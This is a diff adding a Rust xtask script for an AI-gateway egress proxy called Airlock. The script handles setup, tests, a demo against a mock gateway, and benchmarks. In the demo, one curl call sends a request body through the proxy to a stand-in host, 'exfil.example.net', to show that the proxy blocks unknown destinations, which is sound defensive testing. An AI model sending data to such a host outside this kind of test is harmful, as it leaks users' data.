@@ -1,1 +1,392 @@
-fn main() {}
+//! `cargo xtask`: the project's two commands and their helpers.
+//!
+//! - `demo`  — set up, build, run the mock gateway and Airlock on the default
+//!   config, send a request as an app would, show what happened.
+//! - `test`  — set up, then fmt check, clippy `-D warnings`, every test.
+//! - `bench` — the end-to-end latency/CPU/RSS table (release build).
+//! - `setup` — only the set-up: Debian packages, toolchain components, bpf-linker.
+//!
+//! Every step says what it does and is skipped when already done.
+
+use anyhow::{bail, Context, Result};
+use clap::{Parser, Subcommand};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+#[derive(Parser)]
+#[command(name = "xtask")]
+struct Cli {
+    #[command(subcommand)]
+    cmd: Cmd,
+}
+
+#[derive(Subcommand)]
+enum Cmd {
+    /// Install what the build and tests need (idempotent).
+    Setup,
+    /// Run the demo on the default configuration.
+    Demo,
+    /// fmt check, clippy -D warnings, every test.
+    Test,
+    /// End-to-end benchmark table.
+    Bench {
+        /// Seconds per measured run.
+        #[arg(long, default_value_t = 5)]
+        seconds: u64,
+        /// Request rates (requests/s), comma-separated.
+        #[arg(long, value_delimiter = ',', default_value = "500,1000,2000")]
+        rates: Vec<u32>,
+    },
+}
+
+fn main() -> Result<()> {
+    let cli = Cli::parse();
+    let root = workspace_root()?;
+    std::env::set_current_dir(&root)?;
+    match cli.cmd {
+        Cmd::Setup => setup(),
+        Cmd::Demo => {
+            setup()?;
+            demo(&root)
+        }
+        Cmd::Test => {
+            setup()?;
+            test()
+        }
+        Cmd::Bench { seconds, rates } => {
+            setup()?;
+            bench(&root, seconds, &rates)
+        }
+    }
+}
+
+fn workspace_root() -> Result<PathBuf> {
+    let here = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    here.parent()
+        .map(Path::to_path_buf)
+        .context("xtask must live one level below the workspace root")
+}
+
+fn step(msg: &str) {
+    eprintln!("\x1b[1m==> {msg}\x1b[0m");
+}
+
+fn run(cmd: &mut Command) -> Result<()> {
+    eprintln!("    $ {}", show(cmd));
+    let st = cmd
+        .status()
+        .with_context(|| format!("starting {}", show(cmd)))?;
+    if !st.success() {
+        bail!("command failed ({st}): {}", show(cmd));
+    }
+    Ok(())
+}
+
+fn show(cmd: &Command) -> String {
+    let mut s = cmd.get_program().to_string_lossy().into_owned();
+    for a in cmd.get_args() {
+        s.push(' ');
+        s.push_str(&a.to_string_lossy());
+    }
+    s
+}
+
+fn dpkg_installed(pkg: &str) -> bool {
+    Command::new("dpkg-query")
+        .args(["-W", "-f=${Status}", pkg])
+        .output()
+        .map(|o| String::from_utf8_lossy(&o.stdout).contains("install ok installed"))
+        .unwrap_or(false)
+}
+
+/// Debian packages: cmake (pingora's zlib-ng), LLVM 22 for bpf-linker, bpftool
+/// to inspect attachments, iproute2 for network namespaces, curl as the demo app.
+const APT_PACKAGES: &[&str] = &["cmake", "llvm-22-dev", "bpftool", "iproute2", "curl"];
+
+fn setup() -> Result<()> {
+    step("set-up: Debian packages");
+    let missing: Vec<&str> = APT_PACKAGES
+        .iter()
+        .copied()
+        .filter(|p| !dpkg_installed(p))
+        .collect();
+    if missing.is_empty() {
+        eprintln!("    all present: {}", APT_PACKAGES.join(" "));
+    } else {
+        let sudo = if is_root() { vec![] } else { vec!["sudo"] };
+        let apt = |args: &[&str]| {
+            let mut c = Command::new(if sudo.is_empty() { "apt-get" } else { "sudo" });
+            if !sudo.is_empty() {
+                c.arg("apt-get");
+            }
+            c.args(args).env("DEBIAN_FRONTEND", "noninteractive");
+            c
+        };
+        run(&mut apt(&["update", "-qq"]))?;
+        let mut args = vec!["install", "-y", "-qq", "--no-install-recommends"];
+        args.extend(missing.iter().copied());
+        run(&mut apt(&args))?;
+    }
+
+    step("set-up: Rust components (rustfmt, clippy; rust-src for the eBPF nightly)");
+    let installed = output("rustup", &["component", "list", "--installed"]).unwrap_or_default();
+    for c in ["rustfmt", "clippy"] {
+        if installed.lines().any(|l| l.starts_with(c)) {
+            eprintln!("    {c}: present");
+        } else {
+            run(Command::new("rustup").args(["component", "add", c]))?;
+        }
+    }
+    let nightly = output("rustc", &["+nightly", "--version"]).unwrap_or_default();
+    if !nightly.contains("2026-05-19") && !nightly.contains("1.97.0") {
+        bail!(
+            "the eBPF side needs the machine's `nightly` toolchain (the 2026-05-19 build, LLVM 22); \
+             found {:?}. A newer nightly uses LLVM 23, which bpf-linker cannot get here.",
+            nightly.trim()
+        );
+    }
+    let nightly_components = output(
+        "rustup",
+        &["component", "list", "--installed", "--toolchain", "nightly"],
+    )
+    .unwrap_or_default();
+    if nightly_components
+        .lines()
+        .any(|l| l.starts_with("rust-src"))
+    {
+        eprintln!("    nightly rust-src: present");
+    } else {
+        run(Command::new("rustup").args([
+            "component",
+            "add",
+            "rust-src",
+            "--toolchain",
+            "nightly",
+        ]))?;
+    }
+
+    step("set-up: bpf-linker 0.13.0 (LLVM 22)");
+    let v = output("bpf-linker", &["--version"]).unwrap_or_default();
+    if v.contains("0.13.0") {
+        eprintln!("    present: {}", v.trim());
+    } else {
+        // /usr/bin/llvm-config is LLVM 14 on Debian 12: point the build at LLVM 22.
+        run(Command::new("cargo")
+            .args([
+                "install",
+                "bpf-linker@0.13.0",
+                "--locked",
+                "--no-default-features",
+                "--features",
+                "llvm-22",
+            ])
+            .env("LLVM_PREFIX", "/usr/lib/llvm-22"))?;
+    }
+    Ok(())
+}
+
+fn is_root() -> bool {
+    output("id", &["-u"])
+        .map(|s| s.trim() == "0")
+        .unwrap_or(false)
+}
+
+fn output(bin: &str, args: &[&str]) -> Option<String> {
+    Command::new(bin)
+        .args(args)
+        .output()
+        .ok()
+        .filter(|o| o.status.success())
+        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
+}
+
+fn test() -> Result<()> {
+    step("fmt check");
+    run(Command::new("cargo").args(["fmt", "--all", "--", "--check"]))?;
+    step("clippy -D warnings");
+    run(Command::new("cargo").args([
+        "clippy",
+        "--workspace",
+        "--all-targets",
+        "--",
+        "-D",
+        "warnings",
+    ]))?;
+    step("every test");
+    run(Command::new("cargo").args(["test", "--workspace", "--", "--test-threads=4"]))?;
+    Ok(())
+}
+
+/// Child processes killed on drop, so a failing demo leaves nothing behind.
+struct Procs(Vec<(String, Child)>);
+
+impl Drop for Procs {
+    fn drop(&mut self) {
+        for (name, c) in &mut self.0 {
+            let _ = c.kill();
+            let _ = c.wait();
+            eprintln!("    stopped {name}");
+        }
+    }
+}
+
+fn wait_http_ok(addr: &str, path: &str, timeout: Duration) -> bool {
+    let end = Instant::now() + timeout;
+    while Instant::now() < end {
+        if let Some(o) = output(
+            "curl",
+            &[
+                "-s",
+                "-o",
+                "/dev/null",
+                "-w",
+                "%{http_code}",
+                &format!("http://{addr}{path}"),
+            ],
+        ) {
+            if o.trim() == "200" {
+                return true;
+            }
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    false
+}
+
+fn demo(root: &Path) -> Result<()> {
+    step("build (debug)");
+    run(Command::new("cargo").args(["build", "-p", "airlock", "-p", "airlock-tests", "--bins"]))?;
+    let target = root.join("target/debug");
+    let demo_dir = root.join(".demo");
+    std::fs::create_dir_all(&demo_dir)?;
+    let mut procs = Procs(Vec::new());
+
+    step("start the mock inference gateway on 127.0.0.1:18443 (HTTPS, CA in policies/certs)");
+    let gw_log = demo_dir.join("gateway-received.jsonl");
+    let gw = Command::new(target.join("mock-gateway"))
+        .args(["--listen", "127.0.0.1:18443", "--pki-dir", "policies/certs"])
+        .stdout(std::fs::File::create(&gw_log)?)
+        .spawn()
+        .context("starting mock-gateway")?;
+    procs.0.push(("mock-gateway".into(), gw));
+    let ca = root.join("policies/certs/gateway-ca.pem");
+    let end = Instant::now() + Duration::from_secs(10);
+    while !ca.exists() && Instant::now() < end {
+        std::thread::sleep(Duration::from_millis(50));
+    }
+
+    step("check and start Airlock with policies/airlock.yaml");
+    run(Command::new(target.join("airlock")).args(["check", "--config", "policies/airlock.yaml"]))?;
+    let decisions = demo_dir.join("decisions.jsonl");
+    let al = Command::new(target.join("airlock"))
+        .args(["run", "--config", "policies/airlock.yaml"])
+        .stdout(std::fs::File::create(&decisions)?)
+        .spawn()
+        .context("starting airlock")?;
+    procs.0.push(("airlock".into(), al));
+    if !wait_http_ok("127.0.0.1:15020", "/readyz", Duration::from_secs(15)) {
+        bail!("airlock did not become ready on 127.0.0.1:15020/readyz");
+    }
+
+    let body = r#"{"model":"gpt-4o-mini","messages":[{"role":"user","content":"Summarise our Q3 churn numbers in two lines."}]}"#;
+    step("the app sends (plain HTTP, as an unmodified app would to its gateway)");
+    println!("POST http://api.openai.com/v1/chat/completions  (via Airlock at 127.0.0.1:15080)\n{body}\n");
+    let answer = output(
+        "curl",
+        &[
+            "-sS",
+            "--proxy",
+            "http://127.0.0.1:15080",
+            "-H",
+            "content-type: application/json",
+            "-H",
+            "x-airlock-app: demo-app",
+            "-D",
+            "-",
+            "http://api.openai.com/v1/chat/completions",
+            "-d",
+            body,
+        ],
+    )
+    .context("curl through the proxy")?;
+    let unknown = output(
+        "curl",
+        &[
+            "-sS",
+            "--proxy",
+            "http://127.0.0.1:15080",
+            "-H",
+            "x-airlock-app: demo-app",
+            "http://exfil.example.net/v1/chat/completions",
+            "-d",
+            body,
+        ],
+    )
+    .unwrap_or_default();
+    std::thread::sleep(Duration::from_millis(300));
+
+    step("what the gateway received (over TLS)");
+    for l in std::fs::read_to_string(&gw_log)?.lines() {
+        let v: serde_json::Value = serde_json::from_str(l)?;
+        println!(
+            "connection #{} SNI={} {} {}\nbody: {}\n",
+            v["connection"], v["sni"], v["method"], v["path"], v["body"]
+        );
+    }
+    step("the answer the app got");
+    println!("{answer}\n");
+    step("a request to a destination no gateway claims");
+    println!("{unknown}\n");
+    step("decision log (one line per request, hash-chained)");
+    for l in std::fs::read_to_string(&decisions)?.lines() {
+        println!("{l}");
+    }
+    step("a few metrics (http://127.0.0.1:15020/metrics)");
+    let m = output("curl", &["-s", "http://127.0.0.1:15020/metrics"]).unwrap_or_default();
+    for l in m.lines().filter(|l| {
+        l.starts_with("airlock_requests_total")
+            || l.starts_with("airlock_overhead_seconds_count")
+            || l.starts_with("airlock_overhead_seconds_sum")
+            || l.starts_with("airlock_upstream_seconds_count")
+            || l.starts_with("airlock_config_revision_info")
+    }) {
+        println!("{l}");
+    }
+    drop(procs);
+    step("verify the decision log chain");
+    run(Command::new(target.join("airlock"))
+        .arg("verify-log")
+        .arg(&decisions))?;
+    Ok(())
+}
+
+fn bench(root: &Path, seconds: u64, rates: &[u32]) -> Result<()> {
+    step("build (release)");
+    run(Command::new("cargo").args([
+        "build",
+        "--release",
+        "-p",
+        "airlock",
+        "-p",
+        "airlock-tests",
+        "--bins",
+    ]))?;
+    let target = root.join("target/release");
+    let dir = root.join(".demo/bench");
+    std::fs::create_dir_all(&dir)?;
+    let rates: Vec<String> = rates.iter().map(|r| r.to_string()).collect();
+    run(Command::new(target.join("loadgen"))
+        .arg("bench")
+        .arg("--airlock")
+        .arg(target.join("airlock"))
+        .arg("--mock-gateway")
+        .arg(target.join("mock-gateway"))
+        .arg("--work-dir")
+        .arg(&dir)
+        .arg("--seconds")
+        .arg(seconds.to_string())
+        .arg("--rates")
+        .arg(rates.join(",")))?;
+    Ok(())
+}
